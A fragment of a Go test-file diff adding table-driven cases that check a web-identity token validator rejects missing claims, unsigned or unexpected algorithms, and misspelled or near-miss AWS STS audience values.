+		"no issuer":          {func(c *webidentity.Claims) { c.Issuer = "" }, "has no iss"},
+		"no subject":         {func(c *webidentity.Claims) { c.Subject = "" }, "has no sub"},
+		"no audience":        {func(c *webidentity.Claims) { c.Audience = nil }, "has no aud"},
+		"no signature":       {func(c *webidentity.Claims) { c.Algorithm = "none" }, "isn't signed"},
+		"an algorithm":       {func(c *webidentity.Claims) { c.Algorithm = "PS256" }, `signed with "PS256"`},
+		"no key":             {func(c *webidentity.Claims) { c.KeyID = "" }, "no key (kid)"},
+		"a slip of Amazon": {
+			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazon.com"} },
+			`"sts.amazon.com" looks like a slip`,
+		},
+		"a slip with a slash": {
+			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonaws.com/"} }, "looks like a slip",
+		},
+		"a slip with a scheme": {
+			func(c *webidentity.Claims) { c.Audience = []string{"https://STS.amazonaws.com"} }, "looks like a slip",
+		},
+		"a slip without a service": {
+			func(c *webidentity.Claims) { c.Audience = []string{"amazonaws.com"} }, "looks like a slip",
+		},
+		"a slip of a Region's": {
+			func(c *webidentity.Claims) { c.Audience = []string{"sts.eu-central-1.amazonaws.com"} },
+			"looks like a slip",
+		},
+		"a slip of a letter": {
+			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonws.com"} }, "looks like a slip",
+		},
+		"a slip of two": {
+			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonwas.com"} }, "looks like a slip",
+		},
+		"white space": {
+			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonaws.com "} }, "with white space around it",
+		},
+		"the right audience as well": {
+			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazon.com", "sts.amazonaws.com"} },
+			"The signature doesn't fit",
+		},
+		"an audience of its own": {
+			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonaws.com.cn"} },
+			"The signature doesn't fit",
+		},
+		"nothing": {func(*webidentity.Claims) {}, "The signature doesn't fit"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
